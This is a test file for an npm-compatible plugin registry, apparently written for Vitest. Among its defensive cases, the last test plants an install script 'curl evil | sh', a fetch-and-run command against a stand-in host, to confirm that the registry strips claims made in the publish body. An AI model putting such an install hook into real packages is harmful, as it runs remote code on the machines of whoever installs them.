/**
 * The registry end to end over HTTP, as the real process on 127.0.0.1: publish a real plugin,
 * read its packument and tarball back, check integrity and the registry signature the way pacote
 * does (and with pacote itself), scoped names, search, deprecation and concurrent publishes.
 */
import { execFileSync } from "node:child_process";
import { createHash, verify } from "node:crypto";
import fs from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { packedPlugin } from "../../scripts/first-party-plugins.js";
import { pluginTarball, publish, publishBody, put, startRegistryProcess, TOKENS, unpack, writeTokenFile, type RegistryProcess } from "./helpers.js";

let work: string;
let registry: RegistryProcess;
let time: Buffer;
let timeFiles: Record<string, Buffer>;

beforeAll(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), "registry-publish-"));
  const packed = packedPlugin(inject("firstPartyPlugins"), "time");
  time = fs.readFileSync(packed.tgz);
  timeFiles = unpack(packed.tgz);
  registry = await startRegistryProcess({ dataDir: path.join(work, "data"), tokenFile: writeTokenFile(work) });
});

afterAll(async () => {
  await registry?.stop();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

const get = async (pathname: string, token?: string) => {
  const response = await fetch(`${registry.url}${pathname}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: response.status, json: (await response.json()) as any };
};

/** pacote as npm ships it: the one npm on PATH uses. */
function npmsPacote(): any {
  const root = execFileSync("npm", ["root", "-g"], { encoding: "utf8" }).trim();
  return createRequire(path.join(root, "npm", "package.json"))("pacote");
}

describe("publish and fetch", () => {
  it("publishes a first-party plugin and serves its packument, tarball and signature as npm expects", async () => {
    const published = await publish(registry.url, "time", "1.0.0", time, TOKENS.shimmy);
    expect(published.status, JSON.stringify(published.json)).toBe(201);

    const { status, json: doc } = await get("/time");
    expect(status).toBe(200);
    expect(doc.name).toBe("time");
    expect(doc["dist-tags"]).toEqual({ latest: "1.0.0" });
    expect(doc.time["1.0.0"]).toMatch(/^\d{4}-\d\d-\d\dT/);
    const version = doc.versions["1.0.0"];
    // From the tarball, not from the body ("from the body, never trusted").
    expect(version.description).toBe(JSON.parse(timeFiles["package.json"]!.toString()).description);
    expect(version.shimmyPlugin.capabilities.map((c: any) => c.name)).toEqual(["now", "date_add", "date_diff"]);
    expect(version.dist.tarball).toBe(`${registry.url}/time/-/time-1.0.0.tgz`);

    const tarball = Buffer.from(await (await fetch(version.dist.tarball)).arrayBuffer());
    expect(tarball.equals(time)).toBe(true);
    expect(version.dist.integrity).toBe(`sha512-${createHash("sha512").update(tarball).digest("base64")}`);
    expect(version.dist.shasum).toBe(createHash("sha1").update(tarball).digest("hex"));

    const { json: keys } = await get("/-/npm/v1/keys");
    expect(keys.keys).toHaveLength(1);
    const key = keys.keys[0];
    expect(key).toMatchObject({ expires: null, keytype: "ecdsa-sha2-nistp256", scheme: "ecdsa-sha2-nistp256" });
    expect(key.keyid).toBe(`SHA256:${createHash("sha256").update(Buffer.from(key.key, "base64")).digest("base64")}`);
    const [signature] = version.dist.signatures;
    expect(signature.keyid).toBe(key.keyid);
    const pem = `-----BEGIN PUBLIC KEY-----\n${key.key}\n-----END PUBLIC KEY-----`;
    const message = `time@1.0.0:${version.dist.integrity}`;
    expect(verify("SHA256", Buffer.from(message), { key: pem, format: "pem", type: "spki" }, Buffer.from(signature.sig, "base64"))).toBe(true);
    expect(verify("SHA256", Buffer.from(`time@1.0.1:${version.dist.integrity}`), { key: pem, format: "pem", type: "spki" }, Buffer.from(signature.sig, "base64"))).toBe(false);
  });

  it("passes pacote's own registry-signature and integrity checks", async () => {
    const pacote = npmsPacote();
    const { json: keys } = await get("/-/npm/v1/keys");
    const host = new URL(registry.url).host;
    const registryKeys = keys.keys.map((k: any) => ({ ...k, pemkey: `-----BEGIN PUBLIC KEY-----\n${k.key}\n-----END PUBLIC KEY-----` }));
    const cache = path.join(work, "pacote-cache");
    const opts = { registry: `${registry.url}/`, cache, verifySignatures: true, [`//${host}/:_keys`]: registryKeys, preferOnline: true };
    const manifest = await pacote.manifest("time@^1.0.0", opts);
    expect(manifest._signatures[0].keyid).toBe(keys.keys[0].keyid);
    const dest = path.join(work, "pacote-extract");
    await pacote.extract("time@1.0.0", dest, opts);
    expect(fs.readFileSync(path.join(dest, "plugin.wasm")).equals(timeFiles["plugin.wasm"]!)).toBe(true);

    // A key that is not the registry's fails the same check.
    const wrongKey = [{ ...registryKeys[0], pemkey: "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE2IiByllcg+PO1G0RS4A6OtWOUKAZbNoTbpukhaghtwkxXWo0Fdqfk+MAZzLmuyUyvrZh0S4dHxRLpewh38qkeQ==\n-----END PUBLIC KEY-----" }];
    await expect(pacote.manifest("time@1.0.0", { ...opts, [`//${host}/:_keys`]: wrongKey })).rejects.toMatchObject({ code: "EINTEGRITYSIGNATURE" });
  });

  it("serves scoped names at /@scope%2fname and /@scope/name, tarballs under the scope", async () => {
    const clock = pluginTarball(timeFiles, "@alice/clock", "1.0.0");
    expect((await publish(registry.url, "@alice/clock", "1.0.0", clock, TOKENS.alice)).status).toBe(201);
    const escaped = await get("/@alice%2fclock");
    const plain = await get("/@alice/clock");
    expect(escaped.status).toBe(200);
    expect(plain.json).toEqual(escaped.json);
    const tarballUrl = escaped.json.versions["1.0.0"].dist.tarball;
    expect(tarballUrl).toBe(`${registry.url}/@alice/clock/-/clock-1.0.0.tgz`);
    const bytes = Buffer.from(await (await fetch(tarballUrl)).arrayBuffer());
    expect(bytes.equals(clock)).toBe(true);
    expect((await fetch(`${registry.url}/@alice%2fclock/-/clock-1.0.0.tgz`)).status).toBe(200);
    expect((await fetch(`${registry.url}/@alice/clock/-/clock-9.9.9.tgz`)).status).toBe(404);
  });

  it("lands two concurrent publishes of different versions of one name", async () => {
    const versions = ["1.1.0", "1.2.0", "1.3.0"];
    const results = await Promise.all(versions.map((v) => publish(registry.url, "@alice/clock", v, pluginTarball(timeFiles, "@alice/clock", v), TOKENS.alice)));
    expect(results.map((r) => r.status)).toEqual([201, 201, 201]);
    const { json: doc } = await get("/@alice/clock");
    expect(Object.keys(doc.versions).sort()).toEqual(["1.0.0", "1.1.0", "1.2.0", "1.3.0"]);
    for (const v of versions) expect((await fetch(doc.versions[v].dist.tarball)).status).toBe(200);
  });

  it("searches in npm's shape with each plugin's capability kinds and permissions", async () => {
    const { json } = await get("/-/v1/search?text=clock&size=5");
    // The name matches best; "time" has "clock" among its keywords.
    expect(json.objects.map((o: any) => o.package.name)).toEqual(["@alice/clock", "time"]);
    expect(json.total).toBe(2);
    expect(typeof json.time).toBe("string");
    const [hit, second] = json.objects;
    expect(second.searchScore).toBeLessThan(hit.searchScore);
    expect(hit.package).toMatchObject({ name: "@alice/clock", scope: "alice", publisher: { username: "alice" }, capabilities: ["tool"], permissions: {} });
    expect(hit.package.keywords).toContain("time");
    expect(hit.package.links.npm).toBe(`${registry.url}/@alice/clock`);
    expect(typeof hit.score.final).toBe("number");
    expect(typeof hit.searchScore).toBe("number");
    const all = await get("/-/v1/search?text=&size=1&from=1");
    expect(all.json.total).toBe(2);
    expect(all.json.objects).toHaveLength(1);
  });

  it("deprecates through a packument PUT and never removes a version", async () => {
    const { json: doc } = await get("/@alice/clock");
    doc.versions["1.0.0"].deprecated = "use 1.3.0";
    expect((await put(registry.url, "@alice/clock", doc, TOKENS.bob)).status).toBe(403);
    expect((await put(registry.url, "@alice/clock", doc, TOKENS.alice)).status).toBe(200);
    const after = await get("/@alice/clock");
    expect(after.json.versions["1.0.0"].deprecated).toBe("use 1.3.0");
    expect(after.json.versions["1.1.0"].deprecated).toBeUndefined();

    delete doc.versions["1.1.0"];
    const unpublish = await put(registry.url, "@alice/clock", doc, TOKENS.alice);
    expect(unpublish.status).toBe(403);
    expect(unpublish.json.error).toMatch(/never removed/);
    const deleted = await fetch(`${registry.url}/@alice%2fclock/-rev/1-abc`, { method: "DELETE", headers: { authorization: `Bearer ${TOKENS.alice}` } });
    expect(deleted.status).toBe(403);
    expect(Object.keys((await get("/@alice/clock")).json.versions)).toHaveLength(4);
  });

  it("answers whoami for a token and refuses registration unless it is open", async () => {
    expect((await get("/-/whoami", TOKENS.alice)).json).toEqual({ username: "alice" });
    expect((await get("/-/whoami")).status).toBe(401);
    const response = await fetch(`${registry.url}/-/user/org.couchdb.user:mallory`, {
      method: "PUT",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ _id: "org.couchdb.user:mallory", name: "mallory", password: "correct horse", type: "user", roles: [] }),
    });
    expect(response.status).toBe(403);
    expect(((await response.json()) as any).error).toMatch(/registration is closed/);
  });

  it("keeps the body's claims out: the stored version is the tarball's", async () => {
    const body = publishBody("@alice/clock", "2.0.0", pluginTarball(timeFiles, "@alice/clock", "2.0.0"));
    (body.versions as any)["2.0.0"].scripts = { install: "curl evil | sh" };
    expect((await put(registry.url, "@alice/clock", body, TOKENS.alice)).status).toBe(201);
    const { json: doc } = await get("/@alice/clock");
    expect(doc.versions["2.0.0"].scripts).toBeUndefined();
    expect(doc["dist-tags"].latest).toBe("2.0.0");
  });
});
